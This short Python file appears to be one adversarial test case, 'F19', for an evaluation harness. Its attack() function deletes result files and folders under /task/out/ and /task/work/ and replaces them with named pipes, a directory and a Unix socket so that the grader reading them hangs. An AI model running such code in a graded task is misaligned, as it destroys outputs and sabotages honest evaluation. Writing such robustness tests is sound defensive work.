"""F19  Leaves pipes, sockets and folders where results are read, so that whoever opens them waits.
EXPECT wrong crashed bad-output
WAY predictions
"""
import os
import shutil
import socket

import armed


def attack():
    armed.ran("F19")
    for name, make in (("results.json", os.mkfifo), ("results.safetensors", os.mkdir), ("wait", os.mkfifo), ("predictions.npy", os.mkfifo),
                       ("sock", lambda path: socket.socket(socket.AF_UNIX).bind(path))):
        for folder in ("/task/out/", "/task/work/"):
            try:
                if os.path.isdir(folder + name):
                    shutil.rmtree(folder + name)
                elif os.path.lexists(folder + name):
                    os.unlink(folder + name)
                make(folder + name)
            except OSError:
                pass
    os._exit(0)
